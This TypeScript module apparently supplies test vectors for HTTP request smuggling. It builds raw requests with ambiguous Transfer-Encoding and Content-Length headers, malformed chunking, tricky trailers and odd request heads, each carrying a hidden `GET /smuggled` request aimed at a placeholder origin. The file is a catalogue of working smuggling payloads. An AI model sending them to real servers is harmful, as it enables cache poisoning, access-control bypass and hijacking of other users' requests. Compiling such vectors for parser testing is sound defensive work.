// Requests whose framing two parsers could read in two ways: published tricks (RFC 9112 sections 6.1, 6.3, 7.1 and 11.2;
// the CL.TE, TE.CL and TE.TE families; chunk-size, chunk-extension and line-ending ambiguities). In each, `/smuggled` is
// what an attacker would want the origin to take for a request of its own.

export interface SmugglingVector {
  readonly name: string
  /** The bytes on the wire; `{o}` stands for the origin's host:port. */
  readonly bytes: string
}

const SMUGGLED = 'GET /smuggled HTTP/1.1\r\nHost: {o}\r\n\r\n'

/** A POST with these header lines before whatever follows the head. */
const post = (lines: string, rest: string, target = 'http://{o}/first'): string =>
  `POST ${target} HTTP/1.1\r\nHost: {o}\r\n${lines}\r\n\r\n${rest}`

const CHUNKED_END = `0\r\n\r\n${SMUGGLED}`
const LENGTH = `Content-Length: ${CHUNKED_END.length}`

/** Both framings at once, with the coding written in each of these ways. */
const CODINGS: ReadonlyArray<readonly [string, string]> = [
  ['chunked', 'Transfer-Encoding: chunked'],
  ['in capitals', 'TRANSFER-ENCODING: CHUNKED'],
  ['with a space before the colon', 'Transfer-Encoding : chunked'],
  ['with a tab before the colon', 'Transfer-Encoding\t: chunked'],
  ['after a tab', 'Transfer-Encoding:\tchunked'],
  ['after a vertical tab', 'Transfer-Encoding:\x0bchunked'],
  ['before a vertical tab', 'Transfer-Encoding: chunked\x0b'],
  ['after a form feed', 'Transfer-Encoding:\x0cchunked'],
  ['with NUL', 'Transfer-Encoding: \x00chunked'],
  ['folded', 'Transfer-Encoding:\r\n chunked'],
  ['folded with a tab', 'Transfer-Encoding:\r\n\tchunked'],
  ['folded name', 'Transfer-Encoding\r\n : chunked'],
  ['behind a bare LF', 'X: x\nTransfer-Encoding: chunked'],
  ['behind a bare CR', 'X: x\rTransfer-Encoding: chunked'],
  ['quoted', 'Transfer-Encoding: "chunked"'],
  ['with a parameter', 'Transfer-Encoding: chunked;q=1'],
  ['with an unknown coding', 'Transfer-Encoding: xchunked'],
  ['cut short', 'Transfer-Encoding: chunk'],
  ['identity', 'Transfer-Encoding: identity'],
  ['chunked, identity', 'Transfer-Encoding: chunked, identity'],
  ['identity, chunked', 'Transfer-Encoding: identity, chunked'],
  ['chunked, chunked', 'Transfer-Encoding: chunked, chunked'],
  ['an empty list element', 'Transfer-Encoding: , chunked'],
  ['twice', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked'],
  ['then identity', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity'],
  ['then an unknown coding', 'Transfer-Encoding: chunked\r\nTransfer-Encoding: x'],
  ['gzip, chunked', 'Transfer-Encoding: gzip, chunked'],
  ['with an underscore', 'Transfer_Encoding: chunked'],
  ['with a leading space', ' Transfer-Encoding: chunked'],
  ['named by Connection', 'Transfer-Encoding: chunked\r\nConnection: transfer-encoding'],
]

/** A length written in ways that parsers read differently; the body is `hello`. */
const LENGTHS: ReadonlyArray<readonly [string, string]> = [
  ['two that differ', 'Content-Length: 5\r\nContent-Length: 0'],
  ['two that differ, the other way', 'Content-Length: 0\r\nContent-Length: 5'],
  ['two that agree', 'Content-Length: 5\r\nContent-Length: 5'],
  ['a list that agrees', 'Content-Length: 5, 5'],
  ['a list that differs', 'Content-Length: 5, 0'],
  ['a plus sign', 'Content-Length: +5'],
  ['a minus sign', 'Content-Length: -5'],
  ['hexadecimal', 'Content-Length: 0x5'],
  ['an exponent', 'Content-Length: 5e0'],
  ['a fraction', 'Content-Length: 5.0'],
  ['an underscore', 'Content-Length: 0_5'],
  ['a space within', 'Content-Length: 0 5'],
  ['a vertical tab', 'Content-Length: 5\x0b'],
  ['empty', 'Content-Length:'],
  ['past 64 bits', 'Content-Length: 18446744073709551621'],
  ['past 32 bits by wrap', 'Content-Length: 4294967301'],
  ['other digits', 'Content-Length: \xd9\xa5'],
  ['a space before the colon', 'Content-Length : 5'],
  ['folded', 'Content-Length:\r\n 5'],
  ['behind a bare LF', 'X: x\nContent-Length: 5'],
  ['named by Connection', 'Content-Length: 5\r\nConnection: content-length'],
  ['with NUL', 'Content-Length: 5\x00'],
]

/** Bodies whose chunking is ambiguous. */
const CHUNKS: ReadonlyArray<readonly [string, string]> = [
  ['a bare LF after the size', `5\nhello\r\n${CHUNKED_END}`],
  ['a bare CR after the size', `5\rhello\r\n${CHUNKED_END}`],
  ['a bare LF after the data', `5\r\nhello\n${CHUNKED_END}`],
  ['no line end after the data', `5\r\nhello${CHUNKED_END}`],
  ['two bytes other than CRLF after the data', `5\r\nhelloXX${CHUNKED_END}`],
  ['a bare LF in the last chunk', `5\r\nhello\r\n0\n\r\n${SMUGGLED}`],
  ['a bare LF at the very end', `5\r\nhello\r\n0\r\n\n${SMUGGLED}`],
  ['a size in 0x form', `0x5\r\nhello\r\n${CHUNKED_END}`],
  ['a negative size', `-5\r\nhello\r\n${CHUNKED_END}`],
  ['a size with a plus', `+5\r\nhello\r\n${CHUNKED_END}`],
  ['a space before the size', ` 5\r\nhello\r\n${CHUNKED_END}`],
  ['a space after the size', `5 \r\nhello\r\n${CHUNKED_END}`],
  ['a tab after the size', `5\t\r\nhello\r\n${CHUNKED_END}`],
  ['a size past 64 bits', `10000000000000005\r\nhello\r\n${CHUNKED_END}`],
  ['a size with an underscore', `0_5\r\nhello\r\n${CHUNKED_END}`],
  ['an empty size', `\r\nhello\r\n${CHUNKED_END}`],
  ['an extension that ends in a bare LF', `5;a=b\nhello\r\n${CHUNKED_END}`],
  ['an extension with a bare CR', `5;a=\rb\r\nhello\r\n${CHUNKED_END}`],
  ['an extension that hides a chunk behind a bare LF', `2;\nxx\r\n3c\r\n0\r\n\r\n${SMUGGLED}`],
  ['an extension with a quoted line end', `5;a="\r\nb"\r\nhello\r\n${CHUNKED_END}`],
  ['an extension of 100 kB', `5;${'a'.repeat(100_000)}\r\nhello\r\n${CHUNKED_END}`],
  ['a NUL in the extension', `5;\x00\r\nhello\r\n${CHUNKED_END}`],
  ['a trailer with a length', `0\r\nContent-Length: 50\r\n\r\n${SMUGGLED}`],
  ['a trailer with a coding', `0\r\nTransfer-Encoding: chunked\r\n\r\n${SMUGGLED}`],
  ['a trailer with a Host', `0\r\nHost: other\r\n\r\n${SMUGGLED}`],
  ['a folded trailer', `0\r\nX: y\r\n z\r\n\r\n${SMUGGLED}`],
  ['a trailer behind a bare LF', `0\r\nX: y\nZ: z\r\n\r\n${SMUGGLED}`],
]

const HEADS: readonly SmugglingVector[] = [
  { name: 'two Host fields', bytes: `GET http://{o}/first HTTP/1.1\r\nHost: {o}\r\nHost: other\r\n\r\n` },
  { name: 'a folded field', bytes: `GET http://{o}/first HTTP/1.1\r\nHost: {o}\r\nX: a\r\n b\r\n\r\n` },
  { name: 'bare LF line ends', bytes: `GET http://{o}/first HTTP/1.1\nHost: {o}\n\n${SMUGGLED}` },
  { name: 'bare CR line ends', bytes: `GET http://{o}/first HTTP/1.1\rHost: {o}\r\r${SMUGGLED}` },
  {
    name: 'a bare LF at the end of the head',
    bytes: `GET http://{o}/first HTTP/1.1\r\nHost: {o}\r\n\n${SMUGGLED}`,
  },
  { name: 'a space in the target', bytes: `GET http://{o}/first /smuggled HTTP/1.1\r\nHost: {o}\r\n\r\n` },
  {
    name: 'a request in the target',
    bytes: `GET http://{o}/first%0d%0a\tHTTP/1.1 HTTP/1.1\r\nHost: {o}\r\n\r\n`,
  },
  {
    name: 'a field without a colon',
    bytes: `GET http://{o}/first HTTP/1.1\r\nHost: {o}\r\nGET /smuggled HTTP/1.1\r\n\r\n`,
  },
  {
    name: 'a control character in a field',
    bytes: `GET http://{o}/first HTTP/1.1\r\nHost: {o}\r\nX: a\x01b\r\n\r\n`,
  },
  { name: 'NUL in a field', bytes: `GET http://{o}/first HTTP/1.1\r\nHost: {o}\r\nX: a\x00b\r\n\r\n` },
  {
    name: 'HTTP/1.0 with chunks',
    bytes: `POST http://{o}/first HTTP/1.0\r\nHost: {o}\r\nTransfer-Encoding: chunked\r\nConnection: keep-alive\r\n\r\n${CHUNKED_END}`,
  },
  { name: 'HTTP/0.9', bytes: `GET http://{o}/first\r\n\r\n${SMUGGLED}` },
  { name: 'HTTP/1.2', bytes: `GET http://{o}/first HTTP/1.2\r\nHost: {o}\r\n\r\n` },
  { name: 'an unknown version', bytes: `GET http://{o}/first HTTP/3.1\r\nHost: {o}\r\n\r\n` },
  {
    name: 'a head of 200 kB',
    bytes: `GET http://{o}/first HTTP/1.1\r\nHost: {o}\r\nX: ${'a'.repeat(200_000)}\r\n\r\n`,
  },
  {
    name: 'GET with a body',
    bytes: `GET http://{o}/first HTTP/1.1\r\nHost: {o}\r\nContent-Length: ${SMUGGLED.length}\r\n\r\n${SMUGGLED}`,
  },
  {
    name: 'GET with a body whose length Connection names',
    bytes: `GET http://{o}/first HTTP/1.1\r\nHost: {o}\r\nConnection: Content-Length\r\nContent-Length: ${SMUGGLED.length}\r\n\r\n${SMUGGLED}`,
  },
  {
    name: 'GET with a chunked body',
    bytes: `GET http://{o}/first HTTP/1.1\r\nHost: {o}\r\nTransfer-Encoding: chunked\r\n\r\n${SMUGGLED.length.toString(16)}\r\n${SMUGGLED}\r\n0\r\n\r\n`,
  },
  {
    name: 'HEAD with a body',
    bytes: `HEAD http://{o}/first HTTP/1.1\r\nHost: {o}\r\nContent-Length: ${SMUGGLED.length}\r\n\r\n${SMUGGLED}`,
  },
  {
    name: 'a WebSocket upgrade with a body',
    bytes: `GET http://{o}/first HTTP/1.1\r\nHost: {o}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: ${SMUGGLED.length}\r\n\r\n${SMUGGLED}`,
  },
  {
    name: 'an h2c upgrade with a body',
    bytes: `GET http://{o}/first HTTP/1.1\r\nHost: {o}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nContent-Length: ${SMUGGLED.length}\r\n\r\n${SMUGGLED}`,
  },
  {
    name: 'Expect with a body',
    bytes: `POST http://{o}/first HTTP/1.1\r\nHost: {o}\r\nExpect: 100-continue\r\nContent-Length: ${SMUGGLED.length}\r\n\r\n${SMUGGLED}`,
  },
  {
    name: 'an unknown Expect',
    bytes: `POST http://{o}/first HTTP/1.1\r\nHost: {o}\r\nExpect: smuggle\r\nContent-Length: ${SMUGGLED.length}\r\n\r\n${SMUGGLED}`,
  },
]

export const SMUGGLING_VECTORS: readonly SmugglingVector[] = [
  ...CODINGS.map(([name, line]) => ({
    name: `length and coding: ${name}`,
    bytes: post(`${LENGTH}\r\n${line}`, CHUNKED_END),
  })),
  ...CODINGS.map(([name, line]) => ({
    name: `coding and length 4: ${name}`,
    bytes: post(`${line}\r\nContent-Length: 4`, `5c\r\n${SMUGGLED}\r\n0\r\n\r\n`),
  })),
  ...LENGTHS.map(([name, lines]) => ({
    name: `length: ${name}`,
    bytes: post(lines, `hello${SMUGGLED.replace('/smuggled', '/next')}`),
  })),
  ...CHUNKS.map(([name, body]) => ({
    name: `chunks: ${name}`,
    bytes: post('Transfer-Encoding: chunked', body.replaceAll('/smuggled', '/next')),
  })),
  ...HEADS.map(({ name, bytes }) => ({ name: `head: ${name}`, bytes })),
]
